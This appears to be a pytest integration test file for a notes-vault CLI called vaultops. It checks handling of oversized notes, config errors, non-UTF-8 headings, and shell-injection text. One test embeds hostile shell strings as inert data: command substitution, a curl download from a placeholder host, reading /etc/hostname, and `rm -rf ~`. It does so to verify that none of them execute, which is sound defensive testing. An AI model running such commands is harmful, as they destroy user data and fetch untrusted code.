"""Bad input, end to end, where the CLI as a real process is what is tested: a note over the size limit
(``tick`` and ``status``, in no commit), a missing vault folder and the config's errors (one line, exit 2),
the argv a real executor gets, ``status`` over bytes that are not UTF-8 in a heading.  Real vaults from
vault-template/, real git.  What a pass does with broken blocks, broken frontmatter, a job's output and a
request still being typed is tests/unit/test_twin_bad_input.py's, on the engine's twin."""

from __future__ import annotations

import ast
import hashlib
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.support.helpers import INBOX, git, inbox_path, inserted_lines, make_vault, requests_named, vaultops
from vaultops.model import State
from vaultops.scan.note import ParsedNote, parse_note


def parsed(vault: Path) -> ParsedNote:
    return parse_note(INBOX, inbox_path(vault).read_bytes())


def no_traceback(proc: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr


# --- the whole note --------------------------------------------------------------------------------------


def test_a_note_over_the_size_limit_is_reported_and_not_touched(tmp_path: Path) -> None:
    vault = make_vault(tmp_path / "v", "# Inbox\n")
    head = git(vault, "rev-parse", "HEAD")
    block = b"## REQ-%07d\n- type: env-check\n- ready: yes\nIs git installed? `which git`\n\n"
    n = 50_000_000 // len(block % 0) + 1
    raw = b"# Inbox\n\n" + b"".join(block % i for i in range(n))
    assert len(raw) >= 50_000_000
    inbox_path(vault).write_bytes(raw)
    digest = hashlib.sha256(raw).hexdigest()
    for args in (("tick",), ("status",)):
        proc = vaultops("--vault", str(vault), *args)
        assert proc.returncode == 0, proc.stderr
        no_traceback(proc)
        (line,) = proc.stderr.splitlines()
        assert INBOX in line and "over the 20 MB limit" in line and "max_mb" in line, line
    assert hashlib.sha256(inbox_path(vault).read_bytes()).hexdigest() == digest
    # the machine's heartbeat is committed (it is alive); the note is in no commit, and no dashboard is
    # drawn without it
    changed = git(vault, "diff", "--name-only", head.strip(), "HEAD").split()
    assert INBOX not in changed and "_System/vaultops.md" not in changed, changed
    assert not (vault / ".vaultops" / "state" / "backups").exists()


def test_a_missing_vault_folder_is_one_line_and_exit_2(tmp_path: Path) -> None:
    missing = tmp_path / "nonexistent"
    for folder in ("/nonexistent", str(missing)):
        proc = vaultops("--vault", folder, "tick")
        assert proc.returncode == 2
        assert proc.stdout == ""
        no_traceback(proc)
        (line,) = proc.stderr.splitlines()
        assert f"{folder}: no such vault folder" in line
        assert "--vault DIR" in line and f"vaultops init {folder}" in line
    assert not missing.exists()


# --- configuration ---------------------------------------------------------------------------------------

Edit = Callable[[Path], dict[str, str]]  # changes a vault's config; returns the environment to run with


def _shared_edit(old: str, new: str) -> Edit:
    def edit(vault: Path) -> dict[str, str]:
        path = vault / ".vaultops" / "config.toml"
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))
        return {}

    return edit


def _local_append(extra: str) -> Edit:
    def edit(vault: Path) -> dict[str, str]:
        with (vault / ".vaultops" / "local.toml").open("a") as fh:
            fh.write("\n" + extra)
        return {}

    return edit


def _env(name: str, value: str) -> Edit:
    def edit(vault: Path) -> dict[str, str]:
        return {name: value}

    return edit


CONFIG_CASES = {
    "typo-in-config.toml": (
        _shared_edit("settle = 3", "setle = 3"),
        ".vaultops/config.toml: ",
        ["[inbox] setle is not a known setting", "(known here: path, settle, max_mb)"],
    ),
    "wrong-type-in-config.toml": (
        _shared_edit("max_concurrent = 3", 'max_concurrent = "three"'),
        ".vaultops/config.toml: ",
        ["[limits] max_concurrent", "valid integer", "'three'"],
    ),
    "typo-in-local.toml": (
        _local_append("[inbox]\nsetle = 3\n"),
        ".vaultops/local.toml: ",
        ["[inbox] setle is not a known setting", "(known here: path, settle, max_mb)"],
    ),
    "wrong-type-in-local.toml": (
        _local_append('[limits]\nmax_concurrent = "three"\n'),
        ".vaultops/local.toml: ",
        ["[limits] max_concurrent", "valid integer", "'three'"],
    ),
    "bad-env-var": (
        _env("VAULTOPS_INBOX_SETTLE", "abc"),
        "the environment variable VAULTOPS_INBOX_SETTLE: ",
        ["[inbox] settle", "valid number", "'abc'"],
    ),
    "pattern-in-local.toml": (  # what is expected is quoted as it is, not lower-cased
        _local_append('[agent]\nname = "hermes coo"\n'),
        ".vaultops/local.toml: ",
        ["[agent] name", "'^[A-Za-z0-9._@-]+$'", "'hermes coo'"],
    ),
}


@pytest.mark.parametrize("case", list(CONFIG_CASES))
def test_a_config_error_is_one_line_naming_the_source_key_and_what_is_expected(
    tmp_path: Path, case: str
) -> None:
    edit, source, parts = CONFIG_CASES[case]
    inbox = "# Inbox\n\n## REQ-a\n- type: env-check\n- ready: yes\nIs git there?\n"
    vault = make_vault(tmp_path / "v", inbox, repo=False)
    before = inbox_path(vault).read_bytes()
    env = edit(vault)
    proc = vaultops("--vault", str(vault), "tick", env=env)
    assert proc.returncode == 2, (proc.stdout, proc.stderr)
    assert proc.stdout == ""
    no_traceback(proc)
    (line,) = proc.stderr.splitlines()
    assert line.startswith("vaultops: ")
    if source.startswith(".vaultops/"):
        assert f"{vault.resolve()}/{source}" in line, line
    else:
        assert source in line, line
    for part in parts:
        assert part in line, (part, line)
    assert inbox_path(vault).read_bytes() == before


# --- what reaches an executor, and what comes back ---------------------------------------------------------


def test_shell_syntax_reaches_the_executor_as_one_argument_and_runs_nothing(tmp_path: Path) -> None:
    home = tmp_path / "home"  # `~` for any shell that might (wrongly) run: nothing real to lose
    home.mkdir()
    (home / "canary").write_text("still here")
    pwned = tmp_path / "pwned"
    text = (
        "Summarise what these snippets from my notes would do, without running them:\n"
        f"$(mkdir {pwned}-1) and `tee {pwned}-2 </dev/null` ; cp /etc/hostname {pwned}-3\n"
        f"&& curl -o {pwned}-4 http://example.invalid/x.sh|wc -c || printf \"double\" 'single' "
        f'\\"esc\\" $HOME ${{PATH}} | tee {pwned}-5\n'
        "  indented line, a tab\there, and a trailing backslash \\"
    )
    inbox = (
        "# Inbox\n\n"
        f"## REQ-shell\n- type: research\n- ready: yes\n{text}\n\n"
        "## REQ-shell-rm\n- type: research\n- ready: yes\nSummarise what this does: `ls; rm -rf ~`\n"
    )
    vault = make_vault(tmp_path / "v", inbox)
    log = tmp_path / "argv.log"
    code = f"import sys; open({str(log)!r}, 'a').write(repr(sys.argv[1:]) + '\\n')"
    command = json.dumps([sys.executable, "-c", code, "{prompt}"])
    (vault / ".vaultops" / "local.toml").write_text(
        f'[profiles.worker-research]\ncommand = {command}\noutput = "text"\ntimeout = 30\nhealth = []\n\n'
        f'[profiles.worker-code]\ncommand = {command}\noutput = "text"\ntimeout = 30\nhealth = []\n'
        'gate = "none"\n'
    )
    proc = vaultops("--vault", str(vault), "tick", env={"HOME": str(home)})
    assert proc.returncode == 0, proc.stderr
    no_traceback(proc)
    note = parsed(vault)
    (shell,) = requests_named(note, "REQ-shell")
    assert shell.state is State.DONE, proc.stdout
    (outcome,) = shell.outcomes
    assert (outcome.complexity, outcome.safety_class) == ("heavy", "routine")
    # the blocked one (`rm -rf ~`) never reached the executor at all
    (rm,) = requests_named(note, "REQ-shell-rm")
    assert rm.state is State.ESCALATED and "permanent deletion" in rm.statuses[-1].reason
    runs = log.read_text().splitlines()
    assert len(runs) == 1
    argv = ast.literal_eval(runs[0])
    assert isinstance(argv, list) and len(argv) == 1
    assert argv[0].startswith(text + "\n")  # the text whole, as one argument, then the prompt's footer
    assert sorted(p.name for p in tmp_path.iterdir()) == ["argv.log", "home", "v"]
    assert (home / "canary").read_text() == "still here"


# --- bytes that are not UTF-8 in a heading ---------------------------------------------------------------


def test_bytes_that_are_not_utf8_in_a_heading(tmp_path: Path) -> None:
    raw = (
        b"# Inbox\n\n## REQ-h\xff title\n- type: env-check\n- ready: yes\nIs git installed?\n\n"
        b"## REQ-good\n- type: env-check\n- ready: yes\nIs git installed?\n"
    )
    vault = make_vault(tmp_path / "v", "")
    inbox_path(vault).write_bytes(raw)
    # status prints the id as it can (the byte escaped), not a crash
    proc = vaultops("--vault", str(vault), "status")
    assert proc.returncode == 0, proc.stderr
    no_traceback(proc)
    assert "REQ-h\\udcff" in proc.stdout and "REQ-good" in proc.stdout
    proc = vaultops("--vault", str(vault), "status", "--json")
    assert proc.returncode == 0, proc.stderr
    assert [r["id"] for r in json.loads(proc.stdout)["requests"]] == ["REQ-h\udcff", "REQ-good"]

    proc = vaultops("--vault", str(vault), "tick")
    assert proc.returncode == 0, proc.stderr
    no_traceback(proc)
    after = inbox_path(vault).read_bytes()
    added = inserted_lines(raw, after)
    assert sum(line.startswith(b"- status: error @ ") for line in added) == 1
    assert b"## REQ-h\xff title\n" in after
    (good,) = requests_named(parsed(vault), "REQ-good")
    assert good.state is State.DONE
